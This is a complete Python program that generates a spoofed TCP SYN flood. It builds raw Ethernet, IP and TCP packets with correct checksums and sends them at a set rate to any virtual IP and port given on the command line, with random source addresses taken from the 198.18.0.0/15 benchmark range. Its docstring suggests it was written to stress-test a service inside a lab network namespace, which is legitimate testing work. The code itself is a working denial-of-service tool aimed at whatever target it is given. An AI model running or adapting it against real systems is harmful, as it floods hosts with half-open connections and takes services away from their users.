"""A flood of SYNs from sources that don't exist: run as a program in the namespace that floods.

    flooder.py DEVICE MAC VIP PORT RATE SECONDS

Sources are addresses for benchmarks (RFC 2544, 198.18.0.0/15), another one each time; checksums are right, so that real
servers answer. Nobody is there to hear it.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time
from ipaddress import ip_address

_BATCH = 200
_SYN = 0x02


def _sum(data: bytes) -> int:
    return sum(struct.unpack(f">{len(data) // 2}H", data))


def _folded(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood(device: str, mac: bytes, vip: str, port: int, rate: int, seconds: float) -> int:
    """Send `rate` a second for so long; answers how many there were."""
    target = ip_address(vip).packed
    network = int(ip_address("198.18.0.0"))
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, socket.IPPROTO_TCP, 0)
    ip_sum = _sum(ip + target)
    transport = struct.pack(">HIIBBHHH", port, 1, 0, 0x50, _SYN, 65535, 0, 0)
    tcp_sum = _sum(transport + target) + socket.IPPROTO_TCP + len(transport) + 2
    ethernet = mac + bytes.fromhex("020000000099") + b"\x08\x00"
    sent = 0
    start = time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((device, 0))
        while time.monotonic() - start < seconds:
            for _ in range(_BATCH):
                source = network + random.getrandbits(17)
                client_port = 1024 + random.getrandbits(15)
                both = (source >> 16) + (source & 0xFFFF)
                header = ip[:10] + struct.pack(">HI", _folded(ip_sum + both), source) + target
                checksum = _folded(tcp_sum + both + client_port)
                segment = struct.pack(">H", client_port) + transport[:-4] + struct.pack(">HH", checksum, 0)
                wire.send(ethernet + header + segment)
            sent += _BATCH
            time.sleep(max(start + sent / rate - time.monotonic(), 0))
    return sent


if __name__ == "__main__":
    _device, _mac, _vip, _port, _rate, _seconds = sys.argv[1:]
    print(flood(_device, bytes.fromhex(_mac.replace(":", "")), _vip, int(_port), int(_rate), float(_seconds)))
